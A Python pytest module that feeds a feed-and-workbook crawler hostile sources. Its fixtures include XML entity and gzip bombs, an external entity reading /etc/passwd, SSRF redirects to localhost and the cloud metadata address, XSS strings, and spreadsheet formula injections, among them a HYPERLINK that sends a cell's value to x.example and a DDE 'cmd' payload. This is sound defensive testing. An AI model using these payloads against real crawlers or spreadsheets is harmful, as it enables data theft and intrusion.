"""Every fault that a source may have, over a real socket: bounded time and memory, the right verdict, nothing half."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Callable
from functools import cache
from typing import Any

import pytest

from records import queries
from records.runs import Verdict
from records.store import Store

RSS_MB, SECONDS = 512, 45
FEED, BOOK, TREE = "oecd_recalls", "wto_eping_workbook", "iso_ics"
CHECKED, FAILED, NOT_CHECKED, SUSPECT = Verdict.OK, Verdict.FAILED, Verdict.NOT_CHECKED, Verdict.SUSPECT
ITEM = (
    "<item><title>{title}</title><link>{link}</link><pubDate>Fri, 21 Aug 2026 00:00:00 GMT</pubDate>"
    "<description>Made in China. Breaks.</description></item>"
)


def feed(*titles: str, link: str = "https://example.org/EN/US/{n}", head: str = '<?xml version="1.0"?>') -> str:
    items = "".join(ITEM.format(title=t, link=link.format(n=n)) for n, t in enumerate(titles))
    return f'{head}<rss version="2.0"><channel><title>t</title>{items}</channel></rss>'


GOOD = feed("Toy", "Lamp", "Kettle")
LAUGHS = '<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
)
BOMB = f"<!DOCTYPE rss [{LAUGHS}]>" + feed("&j;", head="")
OUTSIDE = '<!DOCTYPE rss [<!ENTITY x SYSTEM "{place}">]>' + feed("&x;", head="")
CELL = '<c t="inlineStr"><is><t>{text}</t></is></c>'
HEADINGS = ("Notifying Member", "Distribution date", "Document symbol", "Title", "Notification type")


@cache
def bomb() -> bytes:
    """Gzip that unpacks to 5 GB."""
    return gzip.compress(b"\0" * (64 << 20), 9) * 80


@cache
def workbook(*rows: str) -> bytes:
    """An .xlsx of these rows of XML, as small as one can be."""
    base = "http://schemas.openxmlformats.org"
    main, rels = f"{base}/spreadsheetml/2006/main", f"{base}/officeDocument/2006/relationships"
    link = f'<Relationship Id="r1" Type="{rels}/worksheet" Target="worksheets/sheet1.xml"/>'
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        sheets = '<sheets><sheet name="Notifications" sheetId="1" r:id="r1"/></sheets>'
        book.writestr("xl/workbook.xml", f'<workbook xmlns="{main}" xmlns:r="{rels}">{sheets}</workbook>')
        package = f"{base}/package/2006/relationships"
        book.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{package}">{link}</Relationships>')
        data = "".join(f"<row>{row}</row>" for row in rows)
        book.writestr(
            "xl/worksheets/sheet1.xml", f'<worksheet xmlns="{main}"><sheetData>{data}</sheetData></worksheet>'
        )
    return made.getvalue()


def cells(*texts: str) -> str:
    return "".join(CELL.format(text=t) for t in texts)


def row(symbol: str, title: str) -> str:
    return cells("Viet Nam", "2026-08-20", symbol, title, "Regular notification")


def body(data: bytes | str, **options: Any) -> Callable[[Any], None]:
    return lambda call: call.answer(data.encode() if isinstance(data, str) else data, **options)


def redirect(to: str) -> Callable[[Any], None]:
    return lambda call: call.answer(status=302, Location=to.format(port=call.server.port))


def reset(call: Any) -> None:
    call.answer(GOOD.encode()[:200], length=len(GOOD))
    call.reset()


def drip(call: Any) -> None:
    call.answer(length=5000)
    for _ in range(400):
        if not call.server.stopped.wait(0.1):
            call.send(b" ")


def endless(call: Any) -> None:
    """5 GB, for as long as somebody takes them."""
    call.send(b"HTTP/1.1 200 X\r\nConnection: close\r\n\r\n<rss>")
    for _ in range(5 << 10):
        call.send(b"x" * (1 << 20))


def half_gzip(data: bytes) -> Callable[[Any], None]:
    packed = gzip.compress(data)
    return body(packed[: len(packed) * 2 // 3], Content_Encoding="gzip")


WIDE = workbook(cells(*HEADINGS), "<c><v>1</v></c>" * 1_000_000)
FORMULA = "=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;open&quot;)"
FORMULAS = workbook(cells(*HEADINGS), row("G/TBT/N/VNM/408", FORMULA), row("G/TBT/N/VNM/409", "=cmd|' /C calc'!A0"))
ODD = feed("Toy \N{SNOWMAN}", head='<?xml version="1.0" encoding="iso-8859-1"?>')
CHINESE = feed("\u8336\u53f6" * 50, head='<?xml version="1.0" encoding="utf-8"?>').encode("gb18030")
SCRIPTS = feed(
    "Toy &lt;script&gt;alert(1)&lt;/script&gt;",
    "Lamp &lt;img src=x onerror=alert(1)&gt;",
    "<![CDATA[<svg/onload=x>Cup]]>",
)
INNER = "http://localhost:{port}/inner"
METADATA, MAPPED = "http://169.254.169.254/latest", "http://[::ffff:127.0.0.1]:{port}/inner"

# (name, source, answer, verdict, words of the message, documents stored)
FAULTS: tuple[tuple[str, str, Callable[[Any], None], Verdict, str, int], ...] = (
    ("good", FEED, body(GOOD), CHECKED, "", 3),
    ("hang", FEED, lambda c: c.hang(), NOT_CHECKED, "Timeout", 0),
    ("drip", FEED, drip, NOT_CHECKED, "Timeout", 0),
    ("reset", FEED, reset, NOT_CHECKED, "no connection", 0),
    ("half-gzip", FEED, half_gzip(GOOD.encode()), NOT_CHECKED, "damaged", 0),
    ("zero-bytes", FEED, body(b""), FAILED, "no feed", 0),
    ("half-feed", FEED, body(GOOD[:-120], length=None), FAILED, "breaks off", 0),
    ("wrong-charset", FEED, body(CHINESE), FAILED, "not written in utf-8", 0),
    ("other-charset", FEED, body(ODD, Content_Type="text/xml; charset=koi8-r"), CHECKED, "", 1),
    ("length-too-long", FEED, body(GOOD, length=len(GOOD) + 9), NOT_CHECKED, "no connection", 0),
    ("length-too-short", FEED, body(GOOD, length=len(GOOD) - 9), FAILED, "breaks off", 0),
    ("429", FEED, body(b"slow down", status=429, Retry_After="7200"), NOT_CHECKED, "429", 0),
    ("redirect-loop", FEED, redirect("/redirect-loop"), NOT_CHECKED, "redirect", 0),
    ("to-localhost", FEED, redirect(INNER), NOT_CHECKED, "no public address", 0),
    ("to-metadata", FEED, redirect(METADATA), NOT_CHECKED, "no public address", 0),
    ("to-v6-mapped", FEED, redirect(MAPPED), NOT_CHECKED, "no public address", 0),
    ("to-decimal", FEED, redirect("http://2130706433:{port}/inner"), NOT_CHECKED, "no public address", 0),
    ("to-a-file", FEED, redirect("file:///etc/passwd"), NOT_CHECKED, "", 0),
    ("5-gb", FEED, endless, FAILED, "larger than 32 MB", 0),
    ("gzip-bomb", FEED, body(bomb(), Content_Encoding="gzip"), FAILED, "larger than 32 MB", 0),
    ("entity-bomb", FEED, body(BOMB), FAILED, "DOCTYPE", 0),
    ("outside-entity", FEED, body(OUTSIDE.format(place="file:///etc/passwd")), FAILED, "DOCTYPE", 0),
    ("tree-bomb", TREE, body(BOMB), FAILED, "no XML", 0),
    ("scripts", FEED, body(SCRIPTS), CHECKED, "", 3),
    ("javascript", FEED, body(feed("Toy", link="javascript:alert(1)//EN/US/{n}")), CHECKED, "", 1),
    ("book-hang", BOOK, lambda c: c.hang(), NOT_CHECKED, "Timeout", 0),
    ("book-reset", BOOK, reset, NOT_CHECKED, "no connection", 0),
    ("book-half-gzip", BOOK, half_gzip(FORMULAS), NOT_CHECKED, "damaged", 0),
    ("book-zero-bytes", BOOK, body(b""), FAILED, "empty", 0),
    ("book-length", BOOK, body(FORMULAS, length=len(FORMULAS) - 30), FAILED, "xlsx", 0),
    ("book-503", BOOK, body(b"", status=503, Retry_After="3600"), NOT_CHECKED, "503", 0),
    ("book-loop", BOOK, redirect("/book-loop"), NOT_CHECKED, "TooManyRedirects", 0),
    ("book-to-localhost", BOOK, redirect(INNER), NOT_CHECKED, "no connection", 0),
    ("book-5-gb", BOOK, endless, FAILED, "larger than 200 MB", 0),
    ("book-gzip-bomb", BOOK, body(bomb(), Content_Encoding="gzip"), FAILED, "larger than 200 MB", 0),
    ("book-wide", BOOK, body(WIDE), FAILED, "row far longer", 0),
    ("book-formulas", BOOK, body(FORMULAS), SUSPECT, "far fewer", 2),
)


@pytest.fixture(scope="module")
def outcomes(server: Any, new_store: Callable[[], Store], crawlers: Callable[..., Any]) -> dict[str, Any]:
    """All of them, a few at a time."""
    server.faults |= {name: answer for name, _, answer, *_ in FAULTS} | {"inner": body(GOOD)}
    ended = crawlers([(new_store(), source, server.url(name)) for name, source, *_ in FAULTS])
    return dict(zip((f[0] for f in FAULTS), ended, strict=True))


@pytest.mark.parametrize(
    ("name", "source", "answer", "verdict", "words", "documents"), FAULTS, ids=[f[0] for f in FAULTS]
)
def test_a_fault_has_its_verdict_within_bounds_and_stores_nothing_half(
    outcomes: dict[str, Any], name: str, source: str, answer: object, verdict: Verdict, words: str, documents: int
) -> None:
    found = outcomes[name]
    verdicts = {verdict, FAILED} if verdict is SUSPECT else {verdict}  # a misfit is one or the other
    assert found.run.verdict in verdicts and found.documents == documents, found.run.message
    assert words in found.run.message, found.run.message
    assert found.rss_mb <= RSS_MB and found.seconds <= SECONDS, (found.rss_mb, found.seconds)
    assert not list(found.store.home.glob("fetch-*")), "a part of a file stayed behind"
    if verdict is not CHECKED:
        assert found.health.last_success is None and found.store.condition(source) == ("", "")
        assert found.health.next_try > found.run.started


def test_nothing_inside_was_asked_and_no_flood_was_taken_in(outcomes: dict[str, Any], server: Any) -> None:
    assert len(outcomes) == len(FAULTS) and server.asked("good")
    assert not server.asked("inner")
    assert server.sent["5-gb"] < 100 << 20 and server.sent["book-5-gb"] < 300 << 20


def test_what_was_stored_is_plain_text(outcomes: dict[str, Any]) -> None:
    titles = [queries.measure(outcomes["scripts"].store, f"oecd:US/{n}").title for n in range(3)]  # type: ignore[union-attr]
    assert sorted(t.split()[0] for t in titles) == ["Cup", "Lamp", "Toy"] and "<" not in "".join(titles)
    one = queries.measure(outcomes["javascript"].store, "oecd:US/0")
    assert one is not None and one.latest.links == ()
    assert queries.measure(outcomes["other-charset"].store, "oecd:US/0").title == "Toy \N{SNOWMAN}"  # type: ignore[union-attr]
    book = outcomes["book-formulas"].store
    said = [queries.measure(book, f"G/TBT/N/VNM/{n}") for n in (408, 409)]
    assert [m.title for m in said if m] == ['=HYPERLINK("http://x.example/?"&A1,"open")', "=cmd|' /C calc'!A0"]


def test_the_publishers_word_is_kept(outcomes: dict[str, Any]) -> None:
    for name, hours in (("429", 2), ("book-503", 1)):
        health = outcomes[name].health
        assert (health.next_try - health.last.started).total_seconds() == hours * 3600
